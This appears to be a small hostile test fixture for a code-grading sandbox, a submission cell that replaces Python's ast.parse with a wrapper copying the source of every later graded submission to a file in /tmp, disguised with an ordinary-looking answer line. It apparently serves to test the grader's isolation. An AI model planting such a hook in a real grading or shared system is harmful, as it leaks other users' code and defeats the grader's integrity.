# hostile: wraps ast.parse (the worker compiles every cell with it; ast is not guarded) so
# the sources of every later submission graded by this child are copied to /tmp.
#@ TASK make-it-yours
import ast as _ast
_real_parse = _ast.parse
def _spy(source, *args, _real=_real_parse, **kwargs):
    with open("/tmp/lessonkit-hostile-leak.txt", "a", encoding="utf-8") as out:
        out.write(str(source) + "\n")
    return _real(source, *args, **kwargs)
_ast.parse = _spy
norm_squared = manual = jnp.array(0.)
